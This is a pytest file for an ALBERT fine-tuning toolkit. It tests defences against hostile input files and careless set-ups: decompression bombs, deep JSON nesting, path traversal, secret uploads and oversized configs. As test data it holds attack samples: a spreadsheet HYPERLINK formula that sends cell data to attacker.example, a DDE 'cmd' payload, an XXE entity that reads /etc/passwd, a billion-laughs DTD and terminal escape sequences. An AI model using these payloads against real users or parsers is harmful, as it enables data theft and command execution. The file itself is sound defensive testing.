"""Hostile files and careless set-ups (issue 32): no run deletes another's checkpoints, no job uploads a secret, no
file can exhaust the machine. Each test builds the file or the set-up a user (or an attacker who can write one
input) could make, runs the real code on it, and checks the one-line refusal or the counted skip it gets.
docs/reliability.md, "Reliability: hostile files and careless set-ups", lists them.
"""

from __future__ import annotations

import csv
import json
import os
import resource
import shutil
import subprocess
import sys
import time
import tracemalloc
import zipfile
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
from ray._private.runtime_env.packaging import create_package

from albert_core.finetune.config import MAX_BATCH_SIZE
from albert_core.finetune.tasks import DataFormatError
from albert_core.finetune.tasks.custom_splits import MAX_CLASSES, CustomDataConfig, load_custom_splits
from albert_core.finetune.tasks.tables import read_table
from albert_core.model.checkpoint import save_model, state_dict_of
from albert_core.model.config import AlbertConfig, ConfigError
from albert_core.model.interop import save_hf_checkpoint
from albert_core.model.modeling import AlbertForPreTraining
from albert_core.optim import make_optimizer
from albert_core.text.corpus import read_documents
from albert_core.text.records import Document, Skip
from albert_core.text.tokenization import Tokenizer, TokenizerTrainConfig, train_tokenizer
from services import cluster
from services.cli import main as cli_main
from services.preprocess.cli import skip_lines
from services.rundir.config import RunConfig
from services.rundir.ledger import RunLedger
from services.rundir.report import LiveView
from services.terminal import EXIT_DATA
from services.train.plan import read_shard_set
from services.train.state import TrainerState, save_train_state
from tests.synthetic import write_random_shards
from tests.test_finetuning import tiny

REPO = Path(__file__).resolve().parent.parent


def tiny_config(**fields) -> AlbertConfig:
    sizes = dict(vocab_size=64, embedding_size=16, hidden_size=32, num_hidden_layers=1, num_attention_heads=2)
    return AlbertConfig(**{**sizes, "intermediate_size": 64, "max_position_embeddings": 64, **fields})


def write_checkpoint(directory: Path, step: int) -> str:
    """A training checkpoint as the train loop leaves it (its save_train_state)."""
    torch.manual_seed(0)
    model = AlbertForPreTraining(tiny_config())
    optimizer = make_optimizer(model, name="adamw", lr=1e-3)
    return str(save_train_state(directory, model, optimizer, None, TrainerState(step=step)))


# --- 1. retention deletes only the run's own checkpoints ---------------------------------------------------------


def ledger_for(runs: Path, name: str, keep_last: int) -> RunLedger:
    config = RunConfig.from_dict({"run": {"name": name, "output_dir": str(runs)}, "train": {"keep_last": keep_last}})
    return RunLedger(runs / name, name, config.to_dict())


def test_a_copied_run_directory_never_deletes_the_checkpoints_of_the_run_it_was_copied_from(tmp_path):
    runs = tmp_path / "runs"
    a = ledger_for(runs, "a", keep_last=3)
    for step in (100, 200, 300):
        a.checkpoint_saved(step, write_checkpoint(runs / "a" / "checkpoints" / f"step_{step:08d}", step))
    shutil.copytree(runs / "a", runs / "b")  # cp -r runs/a runs/b: b's ledger.json names a's checkpoints
    b = ledger_for(runs, "b", keep_last=1)
    own = runs.resolve() / "b" / "checkpoints"
    assert [c.path for c in b.state.checkpoints] == [str(own / f"step_{s:08d}") for s in (100, 200, 300)]  # b's own
    result = b.checkpoint_saved(400, write_checkpoint(runs / "b" / "checkpoints" / "step_00000400", 400))
    assert result.accepted and result.deleted == [str(own / f"step_{s:08d}") for s in (100, 200, 300)]
    assert all((runs / "a" / "checkpoints" / f"step_{step:08d}").is_dir() for step in (100, 200, 300))
    assert [c.step for c in b.state.checkpoints] == [400]


def test_a_checkpoint_outside_the_runs_own_folder_is_refused_and_never_indexed(tmp_path):
    runs = tmp_path / "runs"
    b = ledger_for(runs, "b", keep_last=1)
    foreign = write_checkpoint(runs / "a" / "checkpoints" / "step_00000100", 100)
    result = b.checkpoint_saved(100, foreign)
    assert not result.accepted and f"{foreign}: outside this run's" in result.reason
    assert b.state.checkpoints == [] and b.latest_good_checkpoint() is None
    b.checkpoint_saved(200, write_checkpoint(runs / "b" / "checkpoints" / "step_00000200", 200))
    assert Path(foreign).is_dir()  # never indexed by b, so never reached by its retention


def test_retention_still_deletes_the_runs_own_old_checkpoints(tmp_path):
    runs = tmp_path / "runs"
    a = ledger_for(runs, "a", keep_last=1)
    paths = [write_checkpoint(runs / "a" / "checkpoints" / f"step_{s:08d}", s) for s in (100, 200)]
    a.checkpoint_saved(100, paths[0])
    assert a.checkpoint_saved(200, paths[1]).deleted == [paths[0]]
    assert not Path(paths[0]).exists() and Path(paths[1]).is_dir()


# --- 2. no job uploads a secret ----------------------------------------------------------------------------------

SECRETS = (
    ".env", ".env.production", ".netrc", ".ray/auth_token", "albert-ray.token", "tls/server.pem", "tls/server.key",
    "id_rsa", "id_ed25519.pub", ".aws/credentials", "gcp-credentials.json", ".git-credentials", ".ssh/config",
    "configs/.env", "kube/kubeconfig",
)  # fmt: skip


def test_the_job_package_leaves_out_files_that_hold_secrets(tmp_path):
    work = tmp_path / "work"
    for name in (*SECRETS, "train.py", "configs/tiny.toml", "docs/keys.md"):
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_text("x")
    env = cluster.build_runtime_env(work)
    package = tmp_path / "package.zip"  # what the Jobs client uploads, zipped by Ray's own packaging code
    create_package(str(work), package, include_gitignore=True, excludes=env["excludes"])
    with zipfile.ZipFile(package) as zipped:
        assert sorted(zipped.namelist()) == ["configs/tiny.toml", "docs/keys.md", "train.py"]


def test_the_job_package_keeps_services_data_and_leaves_out_the_corpora_folder(tmp_path):
    work = tmp_path / "work"
    for name in ("services/data/cli.py", "data/corpus/a.txt", "runs/a/x.json"):
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_text("x")
    package = tmp_path / "package.zip"
    create_package(str(work), package, include_gitignore=True, excludes=cluster.build_runtime_env(work)["excludes"])
    with zipfile.ZipFile(package) as zipped:
        assert zipped.namelist() == ["services/data/cli.py"]


def private_token(path: Path, token: str = "s3cr3t") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(token)
    path.chmod(0o600)
    return path


@pytest.mark.parametrize("how", ["--token-file", "RAY_AUTH_TOKEN_PATH"])
def test_submit_refuses_a_token_file_inside_the_uploaded_working_directory(tmp_path, how):
    work = tmp_path / "work"
    token = private_token(work / "secrets" / "albert-ray.token")
    options = {"token_file": token, "environ": {}} if how == "--token-file" else {"environ": {how: str(token)}}
    with pytest.raises(cluster.JobsError) as refused:  # before anything is packaged or sent
        cluster.submit("model", ["info"], address="http://127.0.0.1:9", working_dir=work, **options)
    assert str(refused.value) == (
        f"{how}: token file {token} lies inside the working directory {work} that is uploaded: keep it outside "
        "(e.g. ~/.ray/, mode 600) and point RAY_AUTH_TOKEN_PATH or --token-file at it"
    )


def test_a_token_file_outside_the_working_directory_goes_on_to_the_job_server(tmp_path):
    token = private_token(tmp_path / "home" / ".ray" / "albert.token")
    (tmp_path / "work").mkdir()
    with pytest.raises(cluster.JobsError, match="cannot reach the Ray job server at http://127.0.0.1:9"):
        cluster.submit("model", ["info"], address="http://127.0.0.1:9", working_dir=tmp_path / "work",
                       token_file=token, environ={})  # fmt: skip


# --- 9. the token file's permissions ----------------------------------------------------------------------------


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o620])
def test_a_token_file_others_can_read_or_write_is_refused_as_ssh_refuses_such_a_key(tmp_path, mode):
    token = private_token(tmp_path / "albert.token")
    token.chmod(mode)
    with pytest.raises(cluster.JobsError) as refused:
        cluster.resolve_token(environ={"RAY_AUTH_TOKEN_PATH": str(token)})
    assert str(refused.value) == (
        f"RAY_AUTH_TOKEN_PATH: token file {token} is accessible by others (mode {mode:o}): chmod 600 {token}"
    )
    token.chmod(0o600)
    assert cluster.resolve_token(environ={"RAY_AUTH_TOKEN_PATH": str(token)}) == "s3cr3t"


# --- 3. a config.json cannot make albert allocate the machine -------------------------------------------------

ADDRESS_SPACE = 3 << 30  # the CLI below runs with 3 GiB of address space: torch and a tiny model fit, no more


def capped(*argv: str, timeout: float = 120) -> subprocess.CompletedProcess:
    """`python ARGV` with this checkout's code, in a process whose memory is capped: what the test makes it read
    must not allocate the machine even on code that gets it wrong (it fails there instead)."""

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))

    env = {**os.environ, "PYTHONPATH": str(REPO), "OMP_NUM_THREADS": "1"}
    command = [sys.executable, *argv]
    return subprocess.run(command, cwd=REPO, env=env, capture_output=True, text=True, timeout=timeout, preexec_fn=cap)


def albert_cli(*argv: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return capped("-m", "services.cli", *argv, timeout=timeout)


def measured(code: str) -> dict:
    """Run `code` (which sets `result`) in a capped process; its result and how far its peak RSS rose meanwhile."""
    script = (
        "import json\nimport pyarrow, pyarrow.parquet, pyarrow.compute\n"
        "import albert_core.text.corpus, albert_core.finetune.tasks.tables\n"
        "def peak_kb():  # VmHWM: this process's peak RSS since exec (ru_maxrss would count the forking parent's)\n"
        "    return int(open('/proc/self/status').read().split('VmHWM:')[1].split()[0])\n"
        "before = peak_kb()\n"
        f"{code}\n"
        "print(json.dumps({'result': result, 'grown_mb': (peak_kb() - before) / 1024}))\n"
    )
    done = capped("-c", script)
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.splitlines()[-1])


def doctored_checkpoint(directory: Path, kind: str, **config_changes) -> Path:
    """A tiny real checkpoint (ours or transformers') whose config.json was then edited to say other sizes."""
    torch.manual_seed(0)
    model = AlbertForPreTraining(tiny_config(embedding_size=128, embedding_projection=True))
    if kind == "hf":
        save_hf_checkpoint(directory, state_dict_of(model), model.config)
    else:
        save_model(directory, model)
    config = json.loads((directory / "config.json").read_text())
    (directory / "config.json").write_text(json.dumps({**config, **config_changes}))
    return directory


@pytest.mark.parametrize(
    ("kind", "changes", "message"),
    [
        ("hf", {"vocab_size": 10**9}, "config.json: vocab_size: 1000000000 gives 128.0B parameters, above the limit"),
        ("albert", {"vocab_size": 10**9}, "config.json: vocab_size: 1000000000 gives 128.0B parameters, above"),
        ("hf", {"num_hidden_layers": 100_000}, "config.json: num_hidden_layers: 100000 is above the limit of 1024"),
        (
            "hf",
            {"vocab_size": 20_000_000},  # 2.6B parameters: under the cap, 10 GB if it were built
            "model.safetensors: albert.embeddings.word_embeddings.weight has shape (64, 128) but config.json "
            "makes it (20000000, 128)",
        ),
        (
            "albert",
            {"intermediate_size": 50_000_000},
            "model.safetensors: albert.encoder.ffn_blocks.0.down.weight has shape (32, 64) but config.json makes it "
            "(32, 50000000)",
        ),
    ],
    ids=["hf-vocab-1e9", "albert-vocab-1e9", "hf-100k-layers", "hf-vocab-2e7", "albert-ffn-5e7"],
)
def test_a_checkpoint_whose_config_lies_about_its_sizes_is_refused_before_any_tensor_is_built(
    tmp_path, kind, changes, message
):
    source = doctored_checkpoint(tmp_path / "source", kind, **changes)
    done = albert_cli("convert", str(source), str(tmp_path / "out"))
    assert done.returncode == EXIT_DATA, done.stderr[-2000:]
    assert done.stderr.count("\n") == 1 and message in done.stderr, done.stderr[-2000:]
    assert not (tmp_path / "out").exists()


def test_the_parameter_cap_is_documented_and_can_be_raised(monkeypatch):
    big = dict(vocab_size=200_000_000, embedding_size=128)  # 25.6B parameters
    with pytest.raises(ConfigError, match=r"vocab_size: 200000000 gives 25.6B parameters, above the limit of 20B "):
        tiny_config(**big)
    monkeypatch.setenv("ALBERT_MAX_PARAMETERS", "30e9")
    assert tiny_config(**big).vocab_size == 200_000_000  # a config only: nothing is allocated
    monkeypatch.setenv("ALBERT_MAX_PARAMETERS", "lots")
    with pytest.raises(ConfigError, match="ALBERT_MAX_PARAMETERS: expected a positive number, got 'lots'"):
        tiny_config()


# --- 4. Parquet decompression bombs -----------------------------------------------------------------------------


def dictionary_bomb(path: Path, value_chars: int, rows: int, column: str = "text") -> Path:
    """A dictionary-encoded Parquet file of a few KB: one long value, repeated on every row (the indices are
    run-length encoded), so that it expands to value_chars x rows characters when each row is decoded."""
    values = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), ["word " * (value_chars // 5)])
    table = pa.table({column: values})
    pq.write_table(table, path, compression="zstd", use_dictionary=True)
    return path


def test_a_parquet_corpus_file_whose_dictionary_repeats_a_long_value_is_skipped_without_expanding_it(tmp_path):
    path = dictionary_bomb(tmp_path / "bomb.parquet", value_chars=1_000_000, rows=1000)  # 1 GB once decoded
    assert path.stat().st_size < 20_000
    code = (
        "from collections import Counter\n"
        f"out = albert_core.text.corpus.read_documents({str(path)!r}, max_document_chars=100_000)\n"
        "result = Counter(r.reason for r in out if hasattr(r, 'reason'))"
    )
    measured_run = measured(code)
    assert measured_run["result"] == {"too_long": 1000}  # every row a counted skip, as a long line is
    assert measured_run["grown_mb"] < 64, measured_run  # before: +260 MB (256 rows decoded at a time)


def test_a_custom_parquet_table_whose_cells_expand_hugely_is_refused_naming_the_row_and_column(tmp_path):
    path = dictionary_bomb(tmp_path / "train.parquet", value_chars=2_000_000, rows=2000)  # 4 GB once decoded
    code = (
        "from albert_core.finetune.tasks import DataFormatError\n"
        "try:\n"
        f"    albert_core.finetune.tasks.tables.read_table({str(path)!r})\n"
        "    result = 'read'\n"
        "except DataFormatError as err:\n"
        "    result = str(err)"
    )
    measured_run = measured(code)
    assert measured_run["result"] == (
        f"{path}: row 0: column 'text' holds 2000000 characters, more than the 1000000 a table cell may hold"
    )
    assert measured_run["grown_mb"] < 64, measured_run


def test_a_custom_parquet_table_of_more_rows_than_allowed_is_refused_before_reading_them(tmp_path):
    path = tmp_path / "train.parquet"
    pq.write_table(pa.table({"text": pa.array(["a"] * 10_000_001).dictionary_encode()}), path, compression="zstd")
    with pytest.raises(DataFormatError, match=r"train.parquet: 10000001 rows, more than the 10000000 a table may "):
        read_table(path)


# --- 5. deep JSON nesting -----------------------------------------------------------------------------------------

DEEP = "[" * 200_000  # json.loads raises RecursionError, not a JSONDecodeError


def test_a_jsonl_corpus_line_nested_200k_deep_is_a_counted_skip_and_reading_goes_on(tmp_path):
    path = tmp_path / "deep.jsonl"
    path.write_text(DEEP + "\n" + json.dumps({"text": "the next document."}) + "\n")
    out = list(read_documents(str(path)))
    assert [(r.location, r.reason) for r in out if isinstance(r, Skip)] == [("line 1", "malformed_record")]
    assert [r.text for r in out if isinstance(r, Document)] == ["the next document."]
    assert "nested too deeply" in out[0].detail


@pytest.mark.parametrize(("name", "where"), [("train.jsonl", " row 1 (line 2):"), ("train.json", "")])
def test_a_custom_table_nested_200k_deep_is_one_data_error_line_from_albert_finetune(tmp_path, name, where):
    path = tmp_path / name
    first = json.dumps({"text": "a fine row", "label": "a"})
    path.write_text(first + "\n" + DEEP + "\n" if name.endswith(".jsonl") else "[" + DEEP)
    done = albert_cli("finetune", "--task", "custom", "--train", str(path), "--checkpoint", str(tmp_path / "ckpt"))
    assert done.returncode == EXIT_DATA, done.stderr[-2000:]
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert (
        done.stderr.startswith(f"albert: error: {path}:{where} not valid JSON") and "nested too deeply" in done.stderr
    )


def test_a_checkpoint_config_nested_200k_deep_is_refused_in_one_line(tmp_path):
    source = doctored_checkpoint(tmp_path / "source", "albert")
    (source / "config.json").write_text(DEEP)
    done = albert_cli("convert", str(source), str(tmp_path / "out"))
    assert done.returncode == EXIT_DATA and done.stderr.count("\n") == 1, done.stderr[-2000:]
    assert "config.json" in done.stderr and "nested too deeply" in done.stderr


# --- 6. a shard set's manifest names files inside the shard set only ---------------------------------------------


@pytest.mark.parametrize("where", ["relative", "absolute"])
def test_a_shard_manifest_naming_a_file_outside_the_shard_set_is_refused(tmp_path, where):
    write_random_shards(tmp_path / "elsewhere", (8,), vocab_size=64, rng=np.random.default_rng(0))  # real shards
    shards = tmp_path / "shards"
    write_random_shards(shards / "train", (8,), vocab_size=64, rng=np.random.default_rng(1))
    outside = tmp_path / "elsewhere" / "shard-00000.parquet"
    name = "../elsewhere/shard-00000.parquet" if where == "relative" else str(outside)
    part = {"name": "part-0", "shards": [{"name": "train/shard-00000.parquet", "rows": 8}, {"name": name, "rows": 8}]}
    (shards / "manifest.json").write_text(json.dumps({"version": 1, "parts": [part]}))
    with pytest.raises(ConfigError) as refused:
        read_shard_set(shards)
    assert str(refused.value) == (
        f"data.shards: {shards / 'manifest.json'}: parts[0]: shard name {name!r} leaves the shard set directory"
    )


# --- 7. custom data with many classes -------------------------------------------------------------------------


def labelled_csv(path: Path, labels: list[str]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["text", "label"], *([f"row number {i}", label] for i, label in enumerate(labels))])
    return path


def test_ten_thousand_classes_load_and_split_in_linear_time(tmp_path):
    classes = [f"class-{c:05d}" for c in range(MAX_CLASSES)]
    path = labelled_csv(tmp_path / "train.csv", classes * 3)  # 30,000 rows, 3 of each class
    started = time.process_time()
    splits = load_custom_splits(CustomDataConfig(train=str(path), dev_fraction=0.34))
    assert time.process_time() - started < 5.0  # before: 10 s (a list.index per row, a scan of train per class)
    assert splits.labels == tuple(classes) and len(splits.dev) == MAX_CLASSES  # stratified: one of each class
    assert sorted(splits.labels[e.label] for e in splits.dev) == classes


def test_more_classes_than_the_cap_is_one_line_naming_the_label_column(tmp_path):
    path = labelled_csv(tmp_path / "train.csv", [f"id-{i}" for i in range(MAX_CLASSES + 1)])
    with pytest.raises(DataFormatError) as refused:
        load_custom_splits(CustomDataConfig(train=str(path)))
    assert str(refused.value) == (
        f"{path}: the label column 'label' has {MAX_CLASSES + 1} distinct values, more than the {MAX_CLASSES} classes "
        "a classifier may have (a label column of ids or texts? for numeric targets pass --regression)"
    )


# --- 8. prediction files open safely in a spreadsheet ----------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "\tpadded"]


@pytest.fixture(scope="module")
def tiny_checkpoint(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("checkpoint")
    texts = (REPO / "tests" / "fixtures" / "tokenizer_corpus.txt").read_text().splitlines()
    train_tokenizer(texts, out, TokenizerTrainConfig(vocab_size=200))
    torch.manual_seed(0)
    save_model(out, AlbertForPreTraining(tiny(Tokenizer.load(out).vocab_size)))
    return out


def formula_run(tmp_path: Path, checkpoint: Path, *extra: str) -> list[list[str]]:
    """Fine-tune 2 steps on a table whose labels, ids and column names are spreadsheet formulas (and "-1", a
    number); the dev predictions file's rows."""
    labels = [*FORMULAS, "-1"]
    rows = [{"=id": f"+row{i}", "@label": labels[i % len(labels)], "text": f"sentence number {i}"} for i in range(40)]
    train = tmp_path / "train.jsonl"
    train.write_text("".join(json.dumps(r) + "\n" for r in rows))
    out = tmp_path / "out"
    argv = ["finetune", "--task", "custom", "--train", str(train), "--id-column", "=id", "--label-column", "@label"]
    argv += ["--checkpoint", str(checkpoint), "--output", str(out), "--max-steps", "2", "--dev-fraction", "0.5"]
    assert cli_main([*argv, "--max-seq-length", "16", "--batch-size", "4", *extra]) == 0
    with open(out / "seed_12345" / "predictions_dev.csv", newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_prediction_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path, tiny_checkpoint):
    header, *rows = formula_run(tmp_path, tiny_checkpoint)
    assert header[:3] == ["'=id", "'@label", "gold_@label"]
    assert all(row[0].startswith("'+row") for row in rows)
    assert {row[1] for row in rows} <= {"'" + f for f in FORMULAS} | {"-1"}  # a number stays a number
    # every class is somebody's gold label; the table reader strips a cell's whitespace, so "\tpadded" is "padded"
    gold = {"'" + f for f in FORMULAS if not f.startswith("\t")} | {"padded", "-1"}
    assert {row[2] for row in rows} == gold


def test_raw_csv_writes_prediction_cells_as_given(tmp_path, tiny_checkpoint):
    header, *rows = formula_run(tmp_path, tiny_checkpoint, "--raw-csv")
    assert header[:3] == ["=id", "@label", "gold_@label"]
    assert all(row[0].startswith("+row") for row in rows)
    assert {row[1] for row in rows} <= {*FORMULAS, "-1"}


# --- 9. smaller: the tokenizer's corpus, batch sizes, --max-seq-length, what reaches the terminal -----------------


def test_training_a_tokenizer_holds_its_sample_of_the_corpus_not_the_corpus(tmp_path):
    words = (REPO / "tests" / "fixtures" / "tokenizer_corpus.txt").read_text().split()

    def corpus():  # 50,000 documents of 15 words (5 MB), made as they are read
        for i in range(50_000):
            yield " ".join(words[(i * 7 + k * 13) % len(words)] for k in range(15)) + "."

    tracemalloc.start()
    try:
        train_tokenizer(corpus(), tmp_path, TokenizerTrainConfig(vocab_size=300, input_sentence_size=5000))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert Tokenizer.load(tmp_path).vocab_size == 300
    assert peak < 4 << 20, f"peak {peak / 2**20:.1f} MiB"  # before: 12 MiB, every line kept (here 1.5)


def test_a_fine_tuning_batch_size_of_a_billion_is_refused_in_one_line(tmp_path, tiny_checkpoint):
    train = labelled_csv(tmp_path / "train.csv", ["a", "b"] * 10)
    argv = ["finetune", "--task", "custom", "--train", str(train), "--checkpoint", str(tiny_checkpoint)]
    done = albert_cli(*argv, "--output", str(tmp_path / "out"), "--batch-size", "1000000000", "--max-steps", "1")
    assert done.returncode == EXIT_DATA, done.stderr[-2000:]  # before: a permutation of a billion indices, then a batch
    assert done.stderr.splitlines()[-1] == (
        f"albert: error: TaskHyperparams.batch_size: 1000000000 is above the limit of {MAX_BATCH_SIZE}"
    )


@pytest.mark.parametrize("config", [None, {"model_max_length": 1000000000000000019884624838656}, {"x": 1}])
def test_preprocess_max_seq_length_is_bounded_without_a_tokenizer_config_that_says_so(
    tmp_path, monkeypatch, capsys, config
):
    """No tokenizer_config.json beside the model, one with transformers' "no limit" (int(1e30)), or one without
    model_max_length: 512 positions, ALBERT's, before Ray starts."""
    texts = (REPO / "tests" / "fixtures" / "tokenizer_corpus.txt").read_text().splitlines()
    model = train_tokenizer(texts, tmp_path / "tok", TokenizerTrainConfig(vocab_size=300))
    stored = tmp_path / "tok" / "tokenizer_config.json"
    stored.unlink() if config is None else stored.write_text(json.dumps(config))
    (tmp_path / "corpus.txt").write_text(" ".join(texts))
    monkeypatch.setitem(sys.modules, "ray", None)  # a command that reaches Ray fails loudly
    argv = ["preprocess", "--input", str(tmp_path / "corpus.txt"), "--tokenizer", str(model)]
    assert cli_main([*argv, "--output", str(tmp_path / "out"), "--max-seq-length", "100000"]) == EXIT_DATA
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith("albert: error: max_seq_length 100000: above 512 positions, ")


ESCAPE = "\x1b]0;owned\x07\x1b[2J\r"  # sets the terminal's title, clears the screen, returns the cursor


def test_labels_with_terminal_escapes_reach_the_console_as_visible_escapes(tmp_path, capsys):
    train = labelled_csv(tmp_path / "train.csv", [ESCAPE + "red", "blue"] * 10)
    dev = labelled_csv(tmp_path / "dev.csv", ["blue", ESCAPE + "green"])
    argv = ["finetune", "--task", "custom", "--train", str(train), "--checkpoint", str(tmp_path / "none")]
    assert cli_main([*argv, "--output", str(tmp_path / "out")]) == EXIT_DATA  # the checkpoint is missing
    assert cli_main([*argv, "--dev", str(dev), "--output", str(tmp_path / "out")]) == EXIT_DATA  # green is unknown
    printed = capsys.readouterr()
    assert not any(c in printed.out + printed.err for c in "\x1b\x07\r")
    assert "2 classes (\\x1b]0;owned\\x07\\x1b[2J\\rred, blue)" in printed.out  # what train's labels are
    assert "label '\\x1b]0;owned\\x07\\x1b[2J\\rgreen' is not one of" in printed.err


def test_event_messages_are_shown_without_rich_markup_or_escapes(tmp_path, capsys):
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    event = {"step": 5, "time": 0, "kind": "event", "event": "plateau", "message": "[bold red]x[/] " + ESCAPE}
    (run_dir / "metrics.jsonl").write_text(json.dumps({**event, "remedy": "[link=http://a.example]fix[/link]"}) + "\n")
    with LiveView(run_dir, total_steps=10, progress=False, tensorboard=False):
        time.sleep(1.5)  # it polls the log every 0.5 s
    out = capsys.readouterr().out
    assert "plateau @ step 5: [bold red]x[/] \\x1b]0;owned\\x07\\x1b[2J\\r" in out
    assert "remedy: [link=http://a.example]fix[/link]" in out and "\x1b" not in out


def test_preprocess_console_lines_show_escapes_in_skipped_records_visibly():
    files = {"corpus.jsonl": {"skipped": {"missing_field": 1}, "skip_examples": [{"location": "line 1",
             "detail": f"no 'text' field (fields: {ESCAPE}title)"}]}}  # fmt: skip
    lines = skip_lines({"files": files, "documents": {"skipped": 1}}, "progress/")
    assert "(first: line 1: no 'text' field (fields: \\x1b]0;owned\\x07\\x1b[2J\\rtitle))" in lines[1]


# --- what was already safe stays so ------------------------------------------------------------------------------


def mediawiki_with_dtd(dtd: str, text: str) -> str:
    page = f"<page><title>T</title><ns>0</ns><id>1</id><revision><text>{text}</text></revision></page>"
    return f'<?xml version="1.0"?>\n<!DOCTYPE mediawiki [{dtd}]>\n<mediawiki>{page}</mediawiki>'


def test_xml_entity_expansion_and_external_entities_are_refused_as_malformed_xml(tmp_path):
    laughs = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    (tmp_path / "laughs.xml").write_text(mediawiki_with_dtd(laughs, "&lol9;"))  # a billion "lol"s
    (tmp_path / "external.xml").write_text(mediawiki_with_dtd('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x; text"))
    for name, why in (("laughs.xml", "amplification"), ("external.xml", "undefined entity &x;")):
        (record,) = read_documents(str(tmp_path / name))
        assert record.reason == "malformed_xml" and why in record.detail
